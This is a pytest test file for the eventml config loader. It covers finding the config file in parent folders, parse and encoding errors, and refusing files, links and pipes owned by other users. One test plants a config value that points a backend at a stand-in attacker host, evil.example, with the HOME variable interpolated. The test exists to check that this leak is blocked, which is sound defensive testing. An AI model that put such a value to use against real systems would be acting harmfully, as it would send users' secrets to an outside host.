"""Finding and reading the file, and the errors of a file that cannot be read."""

from __future__ import annotations

import os
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from eventml.config import load
from eventml.errors import ConfigError

if TYPE_CHECKING:
    from collections.abc import Callable


@pytest.fixture
def below(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The working directory, two folders below the one that holds `eventml.toml`."""
    (tmp_path / "eventml.toml").write_text("drain = 1")
    folder = tmp_path / "a" / "b"
    folder.mkdir(parents=True)
    monkeypatch.chdir(folder)
    return folder


def test_the_nearest_folder_with_a_file_is_taken(below: Path) -> None:
    assert load(environ={}).drain == 1
    (below.parent / "eventml.toml").write_text("drain = 2")
    assert load(environ={}).drain == 2
    (below / "eventml.toml").write_text("")
    assert load(environ={}).drain == 30


def test_a_file_of_a_parent_is_named_in_full(below: Path) -> None:
    path = below.parent.parent / "eventml.toml"
    path.write_text("drain = -1")
    with pytest.raises(ConfigError) as caught:
        load(environ={})
    assert str(caught.value).endswith(f"(from {path})")


@pytest.mark.parametrize("name", ["drain", "web", "backend", "consumer"])
def test_a_topic_or_a_handler_may_have_the_name_of_a_setting(tmp_path: Path, name: str) -> None:
    (tmp_path / "eventml.toml").write_text(f"[topic.{name}]\npartitions = 3\n[consumer.{name}]\nretries = 1")
    settings = load(environ={f"EVENTML_CONSUMER_{name.upper()}_GROUP": "g"})
    assert settings.topic[name].partitions == 3
    assert settings.consumer == {name: {"retries": 1, "group": "g"}}


def test_a_syntax_error_names_file_and_line(tmp_path: Path) -> None:
    (tmp_path / "eventml.toml").write_text("a = 1\n\nb = = 2")
    with pytest.raises(ConfigError, match=r"eventml\.toml: not valid TOML: .*line 3"):
        load(environ={})


def test_bytes_that_are_not_utf8_are_named(tmp_path: Path) -> None:
    (tmp_path / "eventml.toml").write_bytes(b"drain = 1\n# caf\xe9")
    with pytest.raises(ConfigError, match=r"eventml\.toml: not valid TOML: .*0xe9"):
        load(environ={})


def test_a_byte_order_mark_is_no_syntax_error(tmp_path: Path) -> None:
    (tmp_path / "eventml.toml").write_bytes(b"\xef\xbb\xbfdrain = 4")
    assert load(environ={}).drain == 4


def test_a_file_that_cannot_be_read_is_an_error(tmp_path: Path) -> None:
    (tmp_path / "eventml.toml").mkdir()
    with pytest.raises(ConfigError, match=r"eventml\.toml: cannot be read: "):
        load(environ={})


@pytest.fixture
def give_away(monkeypatch: pytest.MonkeyPatch) -> Callable[[Path], None]:
    """Give a file to another user; without the right to do that, become another user than its owner."""

    def to_somebody_else(path: Path) -> None:
        if os.geteuid() == 0:
            os.chown(path, 12345, -1, follow_symlinks=False)
        else:
            monkeypatch.setattr(os, "geteuid", lambda: os.getuid() + 1)

    return to_somebody_else


@pytest.mark.parametrize("folder", [".", "../.."])
def test_a_file_of_another_user_is_refused_and_named(
    below: Path, folder: str, give_away: Callable[[Path], None]
) -> None:
    path = Path(os.path.abspath(below / folder)) / "eventml.toml"  # noqa: PTH100 - without symbolic links
    path.write_text("backend = 'redis://evil.example/${HOME}'")
    give_away(path)
    with pytest.raises(ConfigError) as caught:
        load(environ={"HOME": "private value"})
    assert str(caught.value).startswith(f"{path}: it belongs to the user id ")
    assert "private value" not in str(caught.value)
    assert f"EVENTML_CONFIG={path}" in str(caught.value)


def test_the_mode_of_a_file_is_not_checked(below: Path) -> None:
    """Some mounts show every file as writable by everybody."""
    path = below / "eventml.toml"
    path.write_text("drain = 2")
    path.chmod(0o777)
    assert load(environ={}).drain == 2


def test_a_link_of_another_user_is_refused_whatever_it_points_to(
    below: Path, give_away: Callable[[Path], None]
) -> None:
    (below / "mine.toml").write_text("drain = 2")
    link = below / "eventml.toml"
    link.symlink_to("mine.toml")
    assert load(environ={}).drain == 2
    give_away(link)
    with pytest.raises(ConfigError, match="it belongs to the user id"):
        load(environ={})


def test_a_pipe_of_another_user_is_not_opened(below: Path, give_away: Callable[[Path], None]) -> None:
    path = below / "eventml.toml"
    os.mkfifo(path)
    give_away(path)
    with pytest.raises(ConfigError, match="it belongs to the user id"):  # opening it would wait for ever
        load(environ={})


def test_a_file_that_a_variable_names_is_read_whoever_owns_it(
    below: Path, give_away: Callable[[Path], None]
) -> None:
    path = below / "theirs.toml"
    path.write_text("drain = 7")
    give_away(path)
    assert load(environ={"EVENTML_CONFIG": str(path)}).drain == 7
    assert load(environ={"EVENTML_CONFIG": "theirs.toml"}).drain == 7
    assert load(environ={"EVENTML_CONFIG": os.devnull}).drain == 30  # the file of the parent is left out
    with pytest.raises(ConfigError, match=r"EVENTML_CONFIG: there is no file nothing\.toml"):
        load(environ={"EVENTML_CONFIG": "nothing.toml"})


def test_an_empty_variable_names_no_file(below: Path) -> None:
    assert below.parent.parent.joinpath("eventml.toml").exists()
    assert load(environ={"EVENTML_CONFIG": ""}).drain == 1
